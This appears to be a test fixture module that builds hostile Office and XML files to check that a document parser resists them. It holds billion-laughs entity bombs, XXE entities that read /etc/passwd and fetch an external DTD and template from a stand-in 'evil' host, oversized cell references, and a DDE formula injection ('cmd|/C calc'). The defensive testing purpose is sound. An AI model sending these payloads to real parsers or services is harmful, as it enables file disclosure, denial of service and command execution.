import { writeXlsx } from '../office-files.ts'
import { writeZip, type ZipPart } from '../write-zip.ts'
import type { HostileFile } from './hostile-file.ts'

const main = 'http://schemas.openxmlformats.org'
const laughs = `<!DOCTYPE x [<!ENTITY a0 "ha">${Array.from({ length: 12 }, (_, index) => `<!ENTITY a${index + 1} "${`&a${index};`.repeat(10)}">`).join('')}]>`
const externalRelation = (trap: string) =>
  `<!DOCTYPE x [<!ENTITY leak SYSTEM "file:///etc/passwd"><!ENTITY % more SYSTEM "${trap}/evil.dtd">%more;]>`

const word = (doctype: string, text: string, extraParts: readonly ZipPart[] = []): Buffer =>
  writeZip([
    {
      name: '[Content_Types].xml',
      bytes: `<Types xmlns="${main}/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>`,
    },
    {
      name: 'word/document.xml',
      bytes: `<?xml version="1.0"?>${doctype}<w:document xmlns:w="${main}/wordprocessingml/2006/main" xmlns:r="${main}/officeDocument/2006/relationships"><w:body><w:p><w:r><w:t>${text}</w:t></w:r></w:p></w:body></w:document>`,
    },
    ...extraParts,
  ])

/** Writes a workbook with the given sheet and strings. */
const workbook = (sheet: string, strings = ''): Buffer =>
  writeZip([
    {
      name: 'xl/workbook.xml',
      bytes: `<workbook xmlns="${main}/spreadsheetml/2006/main" xmlns:r="${main}/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    },
    {
      name: 'xl/_rels/workbook.xml.rels',
      bytes: `<Relationships xmlns="${main}/package/2006/relationships"><Relationship Id="rId1" Type="${main}/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="${main}/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>`,
    },
    { name: 'xl/worksheets/sheet1.xml', bytes: sheet },
    { name: 'xl/sharedStrings.xml', bytes: strings || `<sst xmlns="${main}/spreadsheetml/2006/main"/>` },
  ])
const rows = (content: string, doctype = '') =>
  `<?xml version="1.0"?>${doctype}<worksheet xmlns="${main}/spreadsheetml/2006/main"><sheetData>${content}</sheetData></worksheet>`

const slides = (doctype: string, text: string): Buffer =>
  writeZip([
    {
      name: 'ppt/presentation.xml',
      bytes: `<p:presentation xmlns:p="${main}/presentationml/2006/main" xmlns:r="${main}/officeDocument/2006/relationships"><p:sldIdLst><p:sldId id="256" r:id="rId1"/></p:sldIdLst></p:presentation>`,
    },
    {
      name: 'ppt/_rels/presentation.xml.rels',
      bytes: `<Relationships xmlns="${main}/package/2006/relationships"><Relationship Id="rId1" Type="${main}/officeDocument/2006/relationships/slide" Target="slides/slide1.xml"/></Relationships>`,
    },
    {
      name: 'ppt/slides/slide1.xml',
      bytes: `<?xml version="1.0"?>${doctype}<p:sld xmlns:p="${main}/presentationml/2006/main" xmlns:a="${main}/drawingml/2006/main"><p:cSld><p:spTree><p:sp><p:txBody><a:p><a:r><a:t>${text}</a:t></a:r></a:p></p:txBody></p:sp></p:spTree></p:cSld></p:sld>`,
    },
  ])

/** Entities, relationships and numbers that could make a reader fetch, expand or allocate too much. */
export const hostileOffice: readonly HostileFile[] = [
  {
    about: 'a billion laughs in Word',
    fileName: 'laughs.docx',
    bytes: () => word(laughs, 'start &a12; end'),
    visibleText: 'start',
    hiddenPattern: /haha/,
  },
  {
    about: 'a billion laughs in a sheet',
    fileName: 'laughs.xlsx',
    bytes: () =>
      workbook(rows('<row r="1"><c r="A1" t="inlineStr"><is><t>start &a12; end</t></is></c></row>', laughs)),
    hiddenPattern: /haha/,
    visibleText: 'start',
  },
  {
    about: 'a billion laughs in shared strings',
    fileName: 'shared.xlsx',
    bytes: () =>
      workbook(
        rows('<row r="1"><c r="A1" t="s"><v>0</v></c></row>'),
        `<?xml version="1.0"?>${laughs}<sst xmlns="${main}/spreadsheetml/2006/main"><si><t>start &a12; end</t></si></sst>`,
      ),
    hiddenPattern: /haha/,
    visibleText: 'start',
  },
  {
    about: 'a billion laughs on a slide',
    fileName: 'laughs.pptx',
    bytes: () => slides(laughs, 'start &a12; end'),
    visibleText: 'start',
    hiddenPattern: /haha/,
  },
  {
    about: 'an entity that names a file of the server',
    fileName: 'leak.docx',
    bytes: (trap) => word(externalRelation(trap), 'start &leak; end'),
    hiddenPattern: /root:/,
    visibleText: 'start',
  },
  {
    about: 'the same in a sheet',
    fileName: 'leak.xlsx',
    bytes: (trap) =>
      workbook(
        rows(
          '<row r="1"><c r="A1" t="inlineStr"><is><t>start &leak; end</t></is></c></row>',
          externalRelation(trap),
        ),
      ),
    hiddenPattern: /root:/,
    visibleText: 'start',
  },
  {
    about: 'the same in plain XML',
    fileName: 'leak.xml',
    bytes: (trap) => `<?xml version="1.0"?>${externalRelation(trap)}<x>start &leak; end</x>`,
    hiddenPattern: /root:/,
    visibleText: 'start',
  },
  {
    about: 'a template and pictures that lie on another host',
    fileName: 'remote.docx',
    bytes: (trap) =>
      word('', 'start', [
        {
          name: 'word/_rels/document.xml.rels',
          bytes: `<Relationships xmlns="${main}/package/2006/relationships"><Relationship Id="rId1" Type="${main}/officeDocument/2006/relationships/attachedTemplate" Target="${trap}/evil.dotm" TargetMode="External"/><Relationship Id="rId2" Type="${main}/officeDocument/2006/relationships/image" Target="file:///etc/passwd" TargetMode="External"/></Relationships>`,
        },
      ]),
    visibleText: 'start',
    hiddenPattern: /root:/,
  },
  {
    about: 'a cell in the last column of the last row',
    fileName: 'far.xlsx',
    bytes: () =>
      workbook(rows('<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>far away</t></is></c></row>')),
    visibleText: 'far away',
  },
  {
    about: 'a cell beyond any column',
    fileName: 'beyond.xlsx',
    bytes: () =>
      workbook(
        rows(
          '<row r="99999999999"><c r="ZZZZZZZZZZ99999999999" t="inlineStr"><is><t>beyond</t></is></c></row>',
        ),
      ),
    visibleText: 'beyond',
  },
  {
    about: 'a shared string that is not there',
    fileName: 'missing.xlsx',
    bytes: () =>
      workbook(
        rows(
          '<row r="1"><c r="A1" t="s"><v>4294967295</v></c><c r="B1" t="s"><v>-1</v></c><c r="C1" t="inlineStr"><is><t>start</t></is></c></row>',
        ),
      ),
    visibleText: 'start',
  },
  {
    about: 'formulas that would run elsewhere',
    fileName: 'formula.xlsx',
    bytes: () =>
      writeXlsx([{ name: 'S', rows: [[{ value: "=cmd|'/C calc'!A0" }, { value: '@SUM(1+1)*cmd' }]] }]),
    visibleText: "=cmd|'/C calc'!A0",
  },
]
